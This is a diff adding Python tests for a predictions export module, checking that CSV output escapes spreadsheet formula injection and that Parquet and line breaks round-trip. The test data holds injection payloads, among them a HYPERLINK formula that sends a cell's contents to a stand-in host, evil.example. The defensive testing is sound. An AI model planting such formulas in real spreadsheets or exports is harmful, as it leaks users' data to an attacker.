@@ -102,3 +102,62 @@ def test_filter_none_means_all_and_empty_means_none():
     assert PredictionFilter.from_dict({"min_confidence": {"dqn": 0.8}}).matches(p)
     keys = {PredictionFilter.from_dict(d).key() for d in (None, {"kinds": []}, {"kinds": ["cnn"]})}
     assert len(keys) == 3
+
+
+# ---- issue 19, finding 5: formula injection ---------------------------------------------------
+
+EVIL = {"model": '=HYPERLINK("http://evil.example/?"&A1,"x")', "run_id": "@SUM(1+1)",
+        "model_version": "-2+3", "id": "+1", "source": "\t=1", "direction": "'=quoted"}  # fmt: skip
+
+
+def evil_prediction():
+    return {"kind": "cnn", "symbol": "IMP", "timeframe": "1m", "timestamp": T0,
+            "confidence": 0.8, "current_price": 100.0, "target_price": 102.0,
+            "horizon_minutes": 2, **EVIL}  # fmt: skip
+
+
+def test_no_csv_cell_starts_a_formula_and_reading_gives_the_text_back(tmp_path):
+    import csv
+
+    from predictions.export import write_export
+
+    frame = export_frame([evil_prediction()])
+    path = write_export(frame, tmp_path / "evil.csv")
+    with open(path, encoding="utf-8", newline="") as f:
+        header, row = list(csv.reader(f))
+    cells = dict(zip(header, row, strict=True))
+    for name, cell in cells.items():
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
+    assert cells["model"] == "'" + EVIL["model"] and cells["direction"] == "''=quoted"
+    pd.testing.assert_frame_equal(read_export(path), frame)
+
+
+def test_parquet_stays_exact(tmp_path):
+    from predictions.export import write_export
+
+    frame = export_frame([evil_prediction()])
+    back = read_export(write_export(frame, tmp_path / "evil.parquet"))
+    assert back.loc[0, "model"] == EVIL["model"]
+    pd.testing.assert_frame_equal(back, frame)
+
+
+def test_the_panels_csv_download_escapes_too():
+    from predictions.export import csv_text
+
+    text = csv_text(export_frame([evil_prediction()]))
+    assert "'=HYPERLINK" in text and ",@SUM" not in text and ",=" not in text
+
+
+@pytest.mark.parametrize("text", ["a\rb", "\r", "x\r\ny", "\n"])
+def test_a_line_break_or_carriage_return_in_a_text_cell_reads_back(tmp_path, text):
+    from predictions.export import write_export
+
+    frame = export_frame([{**evil_prediction(), "model": text, "run_id": text}])
+    pd.testing.assert_frame_equal(read_export(write_export(frame, tmp_path / "cr.csv")), frame)
+
+
+def test_the_csv_text_is_what_pandas_wrote_before_for_plain_values(stored):
+    from predictions.export import csv_text
+
+    frame = export_frame(select(stored.db))
+    assert csv_text(frame) == frame.to_csv(index=False)
